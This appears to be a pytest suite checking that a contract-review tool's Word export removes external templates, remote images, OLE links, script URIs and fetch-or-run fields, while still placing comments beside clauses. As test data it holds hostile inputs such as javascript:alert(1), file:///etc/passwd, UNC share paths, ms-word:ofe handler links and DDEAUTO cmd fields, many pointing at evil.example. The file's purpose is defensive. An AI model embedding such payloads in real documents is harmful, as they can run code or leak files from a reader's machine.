"""The Word export hands on nothing that its input would fetch from outside or run, and finds clauses beside it."""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest
from docx.document import Document as WordDocument
from docx.opc.constants import CONTENT_TYPE, RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import qn

from playground.documents import load_document
from playground.flagging.report import commented_docx
from playground.flagging.report.docx_comments import CommentedDocx
from playground.types import Clause, Flag, FlaggedContract, Label
from tests.support.docx_files import OFFICE, XMLNS

LABEL = Label("Cap On Liability", "The cap.", "high", "It binds.", "How much?")
DRAWING = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'


def saved(word: WordDocument) -> bytes:
    buffer = io.BytesIO()
    word.save(buffer)
    return buffer.getvalue()


def add(word: WordDocument, xml: str) -> None:
    word.element.body.insert(len(word.element.body) - 1, parse_xml(f"<w:p {XMLNS} {DRAWING}>{xml}</w:p>"))


def run(text: str, properties: str = "") -> str:
    return f'<w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def commented(data: bytes, *words: str) -> CommentedDocx:
    document = load_document(data, "c.docx")
    clauses = []
    for number, text in enumerate(words):
        assert document.text.count(text) == 1, (text, document.text)
        start = document.text.index(text)
        clauses.append(Clause(f"c{number}", document.id, text, start, start + len(text)))
    flags = tuple(Flag(clause.id, LABEL.name, 0.5) for clause in clauses)
    contract = FlaggedContract(document, tuple(clauses), flags, (), "m", None, {})
    return commented_docx(data, contract, {LABEL.name: LABEL})


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def test_a_template_pictures_and_scripts_from_outside_are_dropped_and_said() -> None:
    word = docx.Document()
    word.add_paragraph("We pay all.")
    part = word.part
    settings = part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)
    template = settings.relate_to("http://evil.example/t.dotm", f"{OFFICE}/attachedTemplate", is_external=True)
    word.settings.element.insert(0, parse_xml(f'<w:attachedTemplate {XMLNS} r:id="{template}"/>'))
    picture = part.relate_to("http://evil.example/p.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    add(word, f'<w:r><w:drawing><a:graphic><a:blip r:link="{picture}"/></a:graphic></w:drawing></w:r>')
    add(word, f'<w:r><w:pict><v:shape><v:imagedata r:id="{picture}"/></v:shape></w:pict></w:r>')
    header = word.sections[0].header
    header.paragraphs[0].text = "Head"
    logo = header.part.relate_to("file://evil.example/share/l.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    header.paragraphs[0]._p.append(parse_xml(f'<w:r {XMLNS}><w:pict><v:imagedata r:id="{logo}"/></w:pict></w:r>'))
    script = part.relate_to("JavaScript:alert(1)", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    add(word, f'<w:hyperlink r:id="{script}">{run("Click here.")}</w:hyperlink>')
    frame = part.relate_to("http://evil.example/f", f"{OFFICE}/oleObject", is_external=True)
    add(word, f'<w:r><w:object><o:OLEObject Type="Link" r:id="{frame}"/></w:object></w:r>')
    data = saved(word)
    made = commented(data, "We pay all.", "Click here.")
    assert (made.placed, made.from_original) == (2, True)
    assert made.note == (
        "Left out of the Word file, because it would be fetched from outside or run: 1 link, 1 other reference, "
        "2 pictures, 1 template."
    )
    assert "evil.example" in "".join(parts(data).values())
    everything = "".join(parts(made.data).values())
    assert "evil.example" not in everything
    assert "alert(1)" not in everything
    assert 'TargetMode="External"' not in everything
    assert "attachedTemplate" not in everything
    assert load_document(made.data, "c.docx").text == load_document(data, "c.docx").text


@pytest.mark.parametrize(
    ("target", "stays"),
    [
        ("https://example.com/a?b=1", True), ("http://example.com", True), ("mailto:a@example.com", True),
        ("HTTPS://EXAMPLE.COM", True), ("javascript:alert(1)", False), (" javascript:alert(1)", False),
        ("file:///etc/passwd", False), ("\\\\evil.example\\share", False), ("data:text/html,x", False),
        ("vbscript:x", False), ("ms-word:ofe|u|http://evil.example/a", False), ("other.docx", False),
    ],
)  # fmt: skip
def test_only_links_to_pages_and_addresses_stay(target: str, stays: bool) -> None:
    word = docx.Document()
    word.add_paragraph("We pay all.")
    link = word.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    add(word, f'<w:hyperlink r:id="{link}">{run("Our site.")}</w:hyperlink>')
    made = commented(saved(word), "We pay all.", "Our site.")
    after = docx.Document(io.BytesIO(made.data))
    kept = [rel.target_ref for rel in after.part.rels.values() if rel.is_external]
    assert kept == ([target] if stays else [])
    assert bool(made.note) is not stays
    references = [element.get(qn("r:id")) for element in after.element.iter(qn("w:hyperlink"))]
    assert references == ([link] if stays else [None])


def field(instruction: str, shown: str) -> str:
    marks = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")}
    half = len(instruction) // 2
    codes = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (instruction[:half], instruction[half:])
    )
    return marks["begin"] + codes + marks["separate"] + run(shown) + marks["end"]


@pytest.mark.parametrize(
    ("instruction", "stays"),
    [
        (' HYPERLINK "https://example.com" ', True), (' HYPERLINK \\l "Clause" ', True), (" PAGEREF _Toc1 ", True),
        (' HYPERLINK "javascript:alert(1)" ', False), (" DDEAUTO cmd x ", False),
        (' INCLUDEPICTURE "http://x" ', False),
        (" includetext file.docx ", False),
        (' LINK Excel.Sheet "\\\\\\\\evil\\\\a" ', False),
    ],
)  # fmt: skip
def test_fields_that_fetch_or_run_become_text(instruction: str, stays: bool) -> None:
    word = docx.Document()
    add(word, run("We pay ") + field(instruction, "nearly") + run(" all."))
    add(word, f"<w:fldSimple w:instr='{instruction}'>{run('Once.')}</w:fldSimple>")
    data = saved(word)
    made = commented(data, "We pay nearly all.")
    text = parts(made.data)["word/document.xml"]
    assert ("fldChar" in text) is stays
    assert (instruction.split(maxsplit=1)[0] in text) is stays
    assert ("2 fields" in made.note) is not stays
    assert load_document(made.data, "c.docx").text == load_document(data, "c.docx").text


def test_parts_that_python_docx_does_not_know_are_cleaned_too() -> None:
    word = docx.Document()
    word.add_paragraph("We pay all.")
    xml = (
        f'<w:footnotes {XMLNS}><w:footnote w:id="2"><w:p><w:hyperlink r:id="rId1">{run("Note.")}</w:hyperlink><w:r>'
        '<w:pict><v:shape href="javascript:x"><v:imagedata src="http://evil.example/p"/></v:shape></w:pict></w:r></w:p>'
        "</w:footnote></w:footnotes>"
    )
    notes = Part(PackURI("/word/footnotes.xml"), CONTENT_TYPE.WML_FOOTNOTES, xml.encode(), word.part.package)
    word.part.relate_to(notes, RELATIONSHIP_TYPE.FOOTNOTES)
    notes.relate_to("javascript:y", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    made = commented(saved(word), "We pay all.")
    assert "3 links" in made.note
    after = parts(made.data)
    assert "Note." in after["word/footnotes.xml"]
    assert not re.search("javascript|evil", "".join(after.values()))


def test_a_file_without_such_things_is_left_as_it_is() -> None:
    word = docx.Document()
    word.add_paragraph("We pay all.")
    assert commented(saved(word), "We pay all.").note == ""


def test_comments_stand_beside_what_reading_leaves_out_or_draws_otherwise() -> None:
    word = docx.Document()
    box = '<w:fldChar w:fldCharType="begin"><w:ffData><w:checkBox><w:checked/></w:checkBox></w:ffData></w:fldChar>'
    add(word, run("Returns within ") + run("14 days ", "<w:strike/>") + run("45 days."))
    add(word, run("The cap is ") + f'<w:r>{box}</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>' + run(" the fees."))
    add(word, run("Pay ") + '<w:r><w:sym w:font="Symbol" w:char="F0A3"/></w:r>' + run(" nine crowns in 30")
        + run("1", '<w:vertAlign w:val="superscript"/>') + run(" days."))  # fmt: skip
    add(word, run("Secret. ", '<w:rStyle w:val="Hidden"/>') + run("Open to all."))
    word.styles.element.append(
        parse_xml(f'<w:style {XMLNS} w:type="character" w:styleId="Hidden"><w:rPr><w:vanish/></w:rPr></w:style>')
    )
    made = commented(
        saved(word),
        "Returns within 45 days.",
        "The cap is [x] the fees.",
        "Pay ≤ nine crowns in 30 1 days.",
        "Open to all.",
    )
    assert (made.placed, made.unplaced) == (4, 0)
